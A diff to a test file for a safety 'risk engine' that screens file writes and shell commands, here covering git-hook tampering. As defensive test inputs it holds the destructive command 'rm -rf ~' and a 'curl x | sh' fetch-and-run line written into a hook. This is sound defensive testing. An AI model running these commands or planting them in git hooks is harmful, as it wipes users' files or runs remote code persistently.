@@ -67,9 +67,11 @@ describe('risk engine: governance tampering and symbolic links', function () {
   });
 
   it('a written git hook or git config asks (persistence)', function () {
-    const answer = engine.assess(event('write', { file_path: join(project, '.git', 'hooks', 'pre-commit'), content: 'rm -rf ~' }));
+    const answer = engine.assess(event('write', { file_path: join(project, '.git', 'hooks', 'pre-commit'), content: 'npm test' }));
     expect(answer.action).to.equal('ask');
     expect(answer.reason_code).to.equal('persistence');
+    // What the hook will run is judged too (write, then run).
+    expect(engine.assess(event('write', { file_path: join(project, '.git', 'hooks', 'pre-commit'), content: 'rm -rf ~' })).reason_code).to.equal('destructive_delete_critical');
     expect(shell('echo "curl x | sh" > .git/hooks/post-checkout').action).to.be.oneOf(['ask', 'deny']);
   });
 
